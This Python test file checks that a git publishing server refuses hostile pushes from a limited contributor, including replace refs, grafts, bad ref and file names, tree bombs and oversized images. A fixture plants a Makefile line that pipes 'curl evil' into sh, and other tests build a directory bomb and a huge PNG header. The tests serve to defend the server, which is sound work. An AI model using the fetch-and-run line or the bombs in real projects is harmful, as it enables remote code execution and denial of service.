"""Somebody who may push words only, and wants more: each attack with real git pushes, and what they
are told."""

from __future__ import annotations

import os
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from rehearsal import Rehearsal

from metropolis.publish.settings import Settings

from .conftest import accepted, copy_server, refused

PAGE = "content/fr/index.md"
NOTHING = "Nothing is published from this name, only from the branch main, branches preview/NAME and tags."
FORCED = "This would remove published work (a forced push). Type: git pull, then: git push, without --force."
CODE = "Only maintainers may change this file: it is, or controls, code that runs on the server."


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, settings: Settings) -> tuple[Path, str]:
    """The folder of a server on which Ana has published code and two commits of words, and of which
    Luc has a clone; and the last commit."""
    folder = tmp_path_factory.mktemp("attacked")
    rehearsal = Rehearsal(folder, settings)
    copy = rehearsal.clone("ana")
    rehearsal.commit(copy, {"mkdocs.yml": "site", "Makefile": "all:", PAGE: "release 1"}, "one")
    commit = rehearsal.commit(copy, {PAGE: "release 2"}, "two")
    accepted(rehearsal.push(copy))
    rehearsal.clone("luc")
    return folder, commit


@pytest.fixture
def rehearsal(attacked: tuple[Path, str], tmp_path: Path, settings: Settings) -> Rehearsal:
    """A copy of that server."""
    return copy_server(attacked[0], tmp_path / "rehearsal", settings)


@pytest.fixture
def live(attacked: tuple[Path, str], rehearsal: Rehearsal) -> str:
    """The commit that is live."""
    assert rehearsal.places.live() == attacked[1]
    return attacked[1]


def push(
    rehearsal: Rehearsal, *refs: str, force: bool = False, who: str = "luc"
) -> tuple[int, str]:
    return rehearsal.push(rehearsal.folder / "luc", *refs, who=who, force=force)


def luc(rehearsal: Rehearsal, *arguments: str) -> str:
    return rehearsal.git(rehearsal.folder / "luc", *arguments)


def refs_of(rehearsal: Rehearsal) -> list[str]:
    return rehearsal.git(
        rehearsal.places.repository, "for-each-ref", "--format=%(refname)"
    ).splitlines()


def page(rehearsal: Rehearsal) -> str:
    return (rehearsal.places.current / "index.html").read_text("utf-8")


def raw_in(rehearsal: Rehearsal, raw: Any) -> Any:
    """The tools for raw objects, in Luc's clone."""
    raw.folder = rehearsal.folder / "luc"
    return raw


def evil_commit(rehearsal: Rehearsal) -> str:
    words = {"mkdocs.yml": "plugins: [evil]", "Makefile": "all: ; curl evil | sh"}
    return rehearsal.commit(rehearsal.folder / "luc", words, "Mise à jour de la page")


# --- what is read in the place of something else ---


def test_a_replacement_of_what_is_published_is_refused(rehearsal: Rehearsal, live: str) -> None:
    evil_commit(rehearsal)
    fake = luc(rehearsal, "commit-tree", "-m", "base", "-p", f"{live}^", "HEAD^{tree}")
    assert f"refs/replace/{live}: {NOTHING} Type: git push site HEAD:main" in refused(
        push(rehearsal, f"{fake}:refs/replace/{live}")
    )
    assert f"Makefile: {CODE}" in refused(push(rehearsal, "HEAD:main"))
    assert refs_of(rehearsal) == ["refs/heads/main"]


def test_a_replacement_that_is_there_already_is_not_read(
    rehearsal: Rehearsal, live: str, raw: Any
) -> None:
    """Three attacks of one kind: the base of the comparison, the history, and the words of a
    page."""
    evil_commit(rehearsal)
    server = rehearsal.places.repository
    fake = luc(rehearsal, "commit-tree", "-m", "base", "-p", f"{live}^", "HEAD^{tree}")
    orphan = luc(rehearsal, "commit-tree", "-m", "gone", f"{live}^{{tree}}")
    graft = luc(rehearsal, "commit-tree", "-m", "gone", "-p", live, f"{live}^{{tree}}")
    blob = luc(rehearsal, "rev-parse", f"{live}:{PAGE}")
    words = raw_in(rehearsal, raw).write("blob", b"PWNED 123")
    rehearsal.git(server, "fetch", "--quiet", str(raw.folder), "HEAD")
    for commit in (fake, orphan, graft):
        luc(rehearsal, "update-ref", f"refs/keep/{commit}", commit)
    luc(rehearsal, "update-ref", "refs/keep/words", words)
    rehearsal.git(server, "fetch", "--quiet", str(raw.folder), "+refs/keep/*:refs/keep/*")
    for own, place in ((fake, live), (graft, orphan), (words, blob)):
        rehearsal.git(server, "update-ref", f"refs/replace/{place}", own)
    assert f"Makefile: {CODE}" in refused(push(rehearsal, "HEAD:main"))
    assert FORCED in refused(push(rehearsal, f"{orphan}:main", force=True))
    empty = luc(rehearsal, "commit-tree", "-m", "nothing changed", "-p", live, f"{live}^{{tree}}")
    assert push(rehearsal, f"{empty}:main")[0] == 0
    assert rehearsal.places.live() == empty
    assert "release 2" in page(rehearsal)


def test_a_graft_is_not_read(rehearsal: Rehearsal, live: str) -> None:
    orphan = luc(rehearsal, "commit-tree", "-m", "gone", f"{live}^{{tree}}")
    grafts = rehearsal.places.repository / "info" / "grafts"
    grafts.parent.mkdir(exist_ok=True)
    grafts.write_text(f"{orphan} {live}\n", "utf-8")
    assert FORCED in refused(push(rehearsal, f"{orphan}:main", force=True))


# --- names ---


@pytest.mark.parametrize(
    "ref", ["refs/heads/refs/heads/main", "refs/heads/preview", "refs/heads/mian", "refs/hooks/x"]
)
def test_names_that_stand_in_everybodys_way(rehearsal: Rehearsal, live: str, ref: str) -> None:
    assert f"{ref}: {NOTHING}" in refused(push(rehearsal, f"HEAD:{ref}"))
    rehearsal.git(
        rehearsal.places.repository, "update-ref", ref, live
    )  # from a time before the rule
    accepted(push(rehearsal, f":{ref}"))
    assert refs_of(rehearsal) == ["refs/heads/main"]


@pytest.mark.parametrize("locale", ["C.UTF-8", "C", "POSIX"])
def test_a_name_that_is_not_utf8(rehearsal: Rehearsal, live: str, locale: str) -> None:
    bad = b"refs/heads/preview/\xff"
    environment = {**rehearsal.environment("luc"), "LC_ALL": locale}

    def push_bytes(spec: bytes) -> tuple[int, str]:
        command = [b"git", b"push", os.fsencode(rehearsal.places.repository), spec]
        run = subprocess.run(
            command, cwd=rehearsal.folder / "luc", env=environment, capture_output=True, check=False
        )
        return run.returncode, run.stderr.decode("utf-8", "replace")

    output = refused(push_bytes(b"HEAD:" + bad))
    assert "refs/heads/preview/\ufffd: The name is not written in UTF-8. Rename it." in output
    assert "Traceback" not in output
    command = [b"git", b"update-ref", bad, live.encode()]  # from a time before the rule
    subprocess.run(command, cwd=rehearsal.places.repository, check=True)
    rehearsal.commit(rehearsal.folder / "luc", {PAGE: "release 3"}, "three")
    accepted(push_bytes(b"HEAD:refs/heads/main"))
    assert "release 3" in page(rehearsal)
    assert push_bytes(b":" + bad)[0] == 0
    assert refs_of(rehearsal) == ["refs/heads/main"]
    assert not list(rehearsal.places.previews.iterdir())


def test_a_file_name_that_breaks_everybodys_clone(
    rehearsal: Rehearsal, live: str, raw: Any
) -> None:
    own = raw_in(rehearsal, raw)
    blob = own.write("blob", b"x")
    for path, words in (
        ("docs/" + "€" * 100, "The path, or one in it, has more than 200 bytes."),
        ("docs/con.md", "Windows reserves the name “con.md”."),
        ("docs/.gitattributes", "Git would obey this file in everybody's copy."),
    ):
        commit = own.commit(own.tree_with(live, path.encode(), "100644", blob), live)
        assert f"{path}: {words}" in refused(push(rehearsal, f"{commit}:main"))


# --- what unfolds ---


@pytest.mark.parametrize("depth", [5, 6, 10])
@pytest.mark.parametrize("ref", ["refs/heads/main", "refs/heads/preview/bomb", "refs/tags/bomb"])
def test_a_bomb_is_refused_before_it_is_unfolded(
    rehearsal: Rehearsal, live: str, raw: Any, depth: int, ref: str
) -> None:
    own = raw_in(rehearsal, raw)
    commit = own.commit(own.tree_with(live, b"content/z", "40000", own.bomb(depth)), live)
    assert "There are more than 20,000 files and folders. Remove what is too much." in refused(
        push(rehearsal, f"{commit}:{ref}")
    )
    assert refs_of(rehearsal) == ["refs/heads/main"]


def test_a_bomb_beside_a_good_branch_and_one_under_it(
    rehearsal: Rehearsal, live: str, raw: Any
) -> None:
    own = raw_in(rehearsal, raw)
    bomb = own.commit(own.tree_with(live, b"data/z", "40000", own.bomb(8)), live)
    above = own.commit(luc(rehearsal, "rev-parse", f"{live}^{{tree}}"), bomb)
    good = rehearsal.commit(rehearsal.folder / "luc", {PAGE: "release 3"}, "three")
    assert "data/z/d0/d0/d0: There are more than 20,000 files and folders." in refused(
        push(rehearsal, f"{good}:main", f"{bomb}:refs/heads/preview/x")
    )
    assert (
        f"It is in {bomb[:10]}, an older commit of the push: begin a new branch without it."
        in refused(push(rehearsal, f"{above}:main"))
    )
    assert rehearsal.places.live() == live
    assert push(rehearsal, f"{good}:main")[0] == 0


def test_a_picture_that_fills_a_browser(rehearsal: Rehearsal, live: str) -> None:
    head = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (13_000).to_bytes(4, "big") * 2
    picture = rehearsal.folder / "luc" / "content/fr/images/x.png"
    picture.parent.mkdir(parents=True)
    picture.write_bytes(head)
    rehearsal.commit(rehearsal.folder / "luc", {}, "a picture")
    assert (
        "content/fr/images/x.png: The picture has 13,000 × 13,000 pixels; 50,000,000 are allowed in"
        " all." in refused(push(rehearsal, "HEAD:main"))
    )


# --- kinds of pushes ---


def test_tags_that_lead_to_no_commit(rehearsal: Rehearsal, live: str, raw: Any) -> None:
    own = raw_in(rehearsal, raw)
    blob = own.write("blob", b"x")
    luc(rehearsal, "tag", "-a", "-m", "x", "one", live)
    luc(rehearsal, "-c", "advice.nestedTag=false", "tag", "-a", "-m", "x", "two", "one")
    luc(rehearsal, "tag", "-a", "-m", "x", "three", f"{live}^{{tree}}")
    for spec, ref, words in (
        (f"{blob}:refs/tags/blob", "refs/tags/blob", "This leads to a file, not to a commit."),
        (
            f"{live}^{{tree}}:refs/tags/tree",
            "refs/tags/tree",
            "This leads to a folder, not to a commit.",
        ),
        ("refs/tags/two", "refs/tags/two", "This tag leads to a tag, not to a commit."),
        ("refs/tags/three", "refs/tags/three", "This tag leads to a folder, not to a commit."),
    ):
        assert f"{ref}: {words} Use a commit: git tag NAME COMMIT." in refused(
            push(rehearsal, spec)
        )
    assert "Kept as an edition: one." in accepted(push(rehearsal, "refs/tags/one"))


def test_an_edition_is_taken_away_by_a_maintainer(rehearsal: Rehearsal, live: str) -> None:
    assert push(rehearsal, f"{live}:refs/tags/one")[0] == 0
    assert (
        "refs/tags/one: A tag is an edition. Only maintainers may remove it. Ask one of them."
        in refused(push(rehearsal, ":refs/tags/one"))
    )
    assert "The edition is removed." in accepted(push(rehearsal, ":refs/tags/one", who="ana"))
    assert refs_of(rehearsal) == ["refs/heads/main"]


def test_forty_tags_at_once(rehearsal: Rehearsal, live: str) -> None:
    assert (
        "git push: This push moves 40 branches and tags and removes 0; 10 and 1,000 are allowed."
        in refused(push(rehearsal, *(f"{live}:refs/tags/t{number}" for number in range(40))))
    )


def test_a_shallow_clone_cannot_cut_the_history(rehearsal: Rehearsal, live: str) -> None:
    shallow = rehearsal.folder / "shallow"
    rehearsal.git(
        rehearsal.folder,
        "clone",
        "--quiet",
        "--depth=1",
        f"file://{rehearsal.places.repository}",
        str(shallow),
    )
    rehearsal.git(shallow, "checkout", "--quiet", "--orphan", "other")
    rehearsal.git(shallow, "commit", "--quiet", "-m", "x")
    commit = rehearsal.commit(shallow, {PAGE: "release 3"}, "three")
    (shallow / ".git" / "shallow").write_text(f"{commit}\n", "utf-8")
    assert "shallow update not allowed" in refused(
        rehearsal.push(shallow, "HEAD:refs/heads/preview/x", who="luc")
    )
    assert refs_of(rehearsal) == ["refs/heads/main"]
    assert not (rehearsal.places.repository / "shallow").exists()


def test_a_push_that_is_too_large(tmp_path: Path, settings: Settings) -> None:
    rehearsal = Rehearsal(tmp_path / "small", replace(settings, largest_push=100_000))
    copy = rehearsal.clone("luc")
    (copy / "noise").write_bytes(os.urandom(200_000))
    rehearsal.commit(copy, {PAGE: "release 1"}, "one")
    assert "pack exceeds maximum allowed size" in refused(rehearsal.push(copy))
    assert refs_of(rehearsal) == []


def test_push_options_are_not_taken(rehearsal: Rehearsal, live: str) -> None:
    run = subprocess.run(
        ["git", "push", "-o", "x=y", str(rehearsal.places.repository), "HEAD:refs/heads/preview/x"],
        cwd=rehearsal.folder / "luc", env=rehearsal.environment("luc"), capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert run.returncode
    assert "push options" in run.stderr
